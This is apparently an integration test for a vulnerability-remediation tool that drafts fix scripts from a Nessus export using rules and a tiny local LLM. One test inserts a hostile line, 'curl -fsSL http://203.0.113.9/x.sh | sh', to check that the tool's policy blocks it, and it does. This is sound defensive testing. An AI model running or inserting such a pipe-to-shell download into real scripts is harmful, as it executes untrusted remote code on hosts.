/**
 * Drafts end to end through the router and the CLI on a real Nessus export: rules draft
 * for a group of hosts, versions and diff, policy blocks a hostile edit, ready state,
 * the policy setting, and the LLM engine with the tiny generated model (threads 1).
 */
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { DraftContent, Output } from '../../../src-preload/contract';
import { writeTinyModel } from '../../../src-main/drafts/llm/tiny-model';
import { cli } from '../../helpers/cli';
import { runJob, type JobEnd } from '../../helpers/jobs';
import { TEST_LIMITS, TEST_MAX_TOKENS } from '../../unit/drafts/llm/fixtures';
import { testCore } from '../../helpers/core';
import { fixture } from '../../helpers/import';
import { PASS, tempDir } from '../../helpers/vault';

const core = testCore({
  llm: { threads: 1, generate: { limits: TEST_LIMITS, maxTokens: TEST_MAX_TOKENS, seed: 7 } },
});
const { router } = core;
const dir = tempDir('vz-drafts-');
let modelPath = '';

async function call<T>(channel: string, input?: unknown): Promise<T> {
  const result = await router.call(channel, input);
  if (!result.ok) throw new Error(`${channel}: ${result.error.code}: ${result.error.message}`);
  return result.value as T;
}

function job(channel: string, input: unknown, onProgress?: (p: unknown) => void): Promise<JobEnd> {
  return runJob(core, channel, input, onProgress);
}

function findingId(title: string): number {
  return core.ctx.vault
    .session()
    .db.prepare(
      'SELECT f.id FROM findings f JOIN vulnerabilities v ON v.id = f.vulnerability_id WHERE v.title = ? ORDER BY f.id LIMIT 1',
    )
    .pluck()
    .get(title) as number;
}

beforeAll(async () => {
  await call('vault.create', { operator: 'alice', passphrase: PASS });
  const done = await job('import.start', { paths: [fixture('tenable_vm_csv', 'nessus_new.csv')] });
  expect(done.state).toBe('done');
  modelPath = (await writeTinyModel(join(dir, 'tiny.gguf'))).path;
}, 60_000);

describe('rule drafts', () => {
  let draftId = 0;

  it('drafts a fix for every host with the same packages, fixed versions and OS family', async () => {
    const groups = await call<Output<'drafts.groups'>>('drafts.groups');
    const java = groups.find((g) =>
      g.groupKey.startsWith('pkg:rhel:java-1.8.0-openjdk=1.8.0.352.b08-2.el7_9'),
    );
    expect(java?.hosts).toBeGreaterThan(1);
    const done = await job('drafts.create', {
      findingId: findingId('CentOS 7 : java-1.8.0-openjdk (CESA-2022:7002)'),
      engine: 'rules',
    });
    expect(done).toMatchObject({ state: 'done', resultId: expect.any(Number) });
    draftId = done.resultId!;
    const draft = await call<Output<'drafts.get'>>('drafts.get', { id: draftId });
    expect(draft).toMatchObject({
      state: 'draft',
      engine: 'rules',
      latestVersion: 1,
      groupKey: java!.groupKey,
    });
    expect(draft.findings).toBe(java!.findings);
    expect(draft.hosts).toHaveLength(java!.hosts);
    const v1 = draft.versions[0]!;
    expect(v1.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(v1.lint.every((l) => l.ok && l.ran)).toBe(true);
    expect(v1.policy.blocked).toBe(false);
    expect(v1.createdBy).toBe('alice');
  });

  it('an edit is a new version; a hostile edit is blocked and cannot be made ready; diff shows the change', async () => {
    const draft = await call<Output<'drafts.get'>>('drafts.get', { id: draftId });
    const content = draft.versions[0]!.content as DraftContent;
    const hostile = {
      ...content,
      apply: `${content.apply}curl -fsSL http://203.0.113.9/x.sh | sh\n`,
    };
    const blocked = await call<Output<'drafts.edit'>>('drafts.edit', {
      id: draftId,
      content: hostile,
      note: 'try',
    });
    expect(blocked.state).toBe('blocked');
    expect(blocked.versions.at(-1)?.policy.findings.map((f) => f.rule)).toEqual([
      'pipe-download-to-shell',
      'network-download',
    ]);
    expect(await router.call('drafts.setState', { id: draftId, state: 'ready' })).toMatchObject({
      ok: false,
      error: { code: 'DRAFT_BLOCKED', message: /apply line \d+: pipes a download into a shell/ },
    });
    const diff = await call<Output<'drafts.diff'>>('drafts.diff', { id: draftId, from: 1, to: 2 });
    expect(diff.find((d) => d.step === 'apply')?.lines.filter((l) => l.op !== ' ')).toEqual([
      { op: '+', text: 'curl -fsSL http://203.0.113.9/x.sh | sh' },
    ]);
    const broken = await call<Output<'drafts.edit'>>('drafts.edit', {
      id: draftId,
      content: { ...content, verify: 'if then fi\n' },
    });
    expect(broken.state).toBe('draft');
    expect(await router.call('drafts.setState', { id: draftId, state: 'ready' })).toMatchObject({
      ok: false,
      error: { code: 'DRAFT_LINT_FAILED', message: /verify \(sh -n\)/ },
    });
    const fixed = await call<Output<'drafts.edit'>>('drafts.edit', { id: draftId, content });
    expect(fixed.versions.map((v) => [v.version, v.engine])).toEqual([
      [1, 'rules'],
      [2, 'manual'],
      [3, 'manual'],
      [4, 'manual'],
    ]);
    expect(fixed.versions[3]?.sha256).toBe(fixed.versions[0]?.sha256);
    expect(
      (await call<Output<'drafts.setState'>>('drafts.setState', { id: draftId, state: 'ready' }))
        .state,
    ).toBe('ready');
    // Editing a ready draft sends it back to draft.
    const again = await call<Output<'drafts.edit'>>('drafts.edit', {
      id: draftId,
      content: { ...content, metadata: { ...content.metadata, notes: 'reviewed' } },
    });
    expect(again.state).toBe('draft');
    const audit = await call<{ action: string }[]>('audit.list', { limit: 20 });
    expect(audit.filter((e) => e.action.startsWith('draft.')).map((e) => e.action)).toContain(
      'draft.state',
    );
  });

  it('the admin policy can deny more; recheck applies it to the latest version', async () => {
    const policy = await call<Output<'drafts.policy'>>('drafts.policy');
    expect(policy.airGapped).toBe(true);
    expect(policy.builtinRules.map((r) => r.name)).toContain('sudoers');
    await call('drafts.setPolicy', {
      airGapped: true,
      disabledRules: [],
      extraRules: [{ name: 'no-yum', pattern: '\\byum\\b', reason: 'this site only allows dnf' }],
    });
    const rechecked = await call<Output<'drafts.recheck'>>('drafts.recheck', { id: draftId });
    expect(rechecked.state).toBe('blocked');
    expect(rechecked.versions.at(-1)?.policy.findings[0]?.rule).toBe('no-yum');
    await call('drafts.setPolicy', { airGapped: true, disabledRules: [], extraRules: [] });
    expect((await call<Output<'drafts.recheck'>>('drafts.recheck', { id: draftId })).state).toBe(
      'draft',
    );
    const none = await job('drafts.create', {
      findingId: findingId('Network daemons not managed by the package system'),
      engine: 'rules',
    });
    expect(none).toMatchObject({
      state: 'failed',
      error: { code: 'NO_RULE', message: /Try the LLM engine/ },
    });
  });
});

describe('LLM drafts with the tiny model', () => {
  it('refuses without a model, then drafts through the model with progress; the draft records the model', async () => {
    // A finding no rule covers: the model drafts alone (with a rules draft the prompt
    // outgrows the tiny model's 4,096-token window, a case llm.test.ts covers).
    const title = 'Network daemons not managed by the package system';
    const missing = await job('drafts.create', { findingId: findingId(title), engine: 'llm' });
    expect(missing).toMatchObject({ state: 'failed', error: { code: 'MODEL_NOT_FOUND' } });
    const model = await call<Output<'models.add'>>('models.add', { path: modelPath });
    expect(model.metadata.architecture).toBe('llama');
    expect(await router.call('models.add', { path: modelPath })).toMatchObject({
      ok: false,
      error: { code: 'MODEL_EXISTS' },
    });
    const progress: { done: number; message?: string }[] = [];
    const done = await job('drafts.create', { findingId: findingId(title), engine: 'llm' }, (p) =>
      progress.push(p as { done: number }),
    );
    expect(done.state, done.error?.message).toBe('done');
    const draft = await call<Output<'drafts.get'>>('drafts.get', { id: done.resultId! });
    expect(draft.engine).toBe('llm');
    expect(draft.versions[0]?.modelSha256).toBe(model.sha256);
    expect(progress.some((p) => /tokens\/s/.test(p.message ?? ''))).toBe(true);
  }, 120_000);

  it('the CLI: models list, drafts create/show/lint with the public JSON shapes', async () => {
    const daemons = findingId('Network daemons not managed by the package system');
    // The model stays loaded between drafts; locking the vault unloads it.
    expect(core.ctx.llm.loaded?.path).toBe(modelPath);
    core.ctx.vault.lock('test');
    await expect.poll(() => core.ctx.llm.loaded).toBeNull();
    const vz = cli({ VULNZERO_VAULT: core.ctx.vault.path, VULNZERO_PASSPHRASE: PASS });
    const models = JSON.parse((await vz('models', 'list', '--json')).out) as { sha256: string }[];
    expect(models).toHaveLength(1);
    const created = await vz('drafts', 'create', '--group', 'cfg:ssh-weak-crypto', '--json');
    expect(created.code, created.err).toBe(0);
    const draft = JSON.parse(created.out) as Output<'drafts.get'>;
    expect(draft).toMatchObject({
      engine: 'rules',
      state: 'draft',
      title: 'Strong SSH ciphers, MACs and key exchange',
    });
    const shown = await vz('drafts', 'show', String(draft.id));
    expect(shown.out).toContain('--- apply');
    const lint = await vz('drafts', 'lint', String(draft.id), '--json');
    expect(lint.code).toBe(0);
    expect(JSON.parse(lint.out)).toMatchObject({
      id: draft.id,
      version: 1,
      policy: { blocked: false },
    });
    expect((await vz('drafts', 'create', '--json')).code).toBe(2);
    const llm = await vz(
      'drafts',
      'create',
      '--finding',
      String(daemons),
      '--engine',
      'llm',
      '--threads',
      '1',
      '--max-tokens',
      String(TEST_MAX_TOKENS),
      '--max-chars',
      String(TEST_LIMITS.scriptChars),
      '--json',
    );
    expect(llm.code, llm.err).toBe(0);
    expect(JSON.parse(llm.out)).toMatchObject({ engine: 'llm' });
  }, 120_000);
});
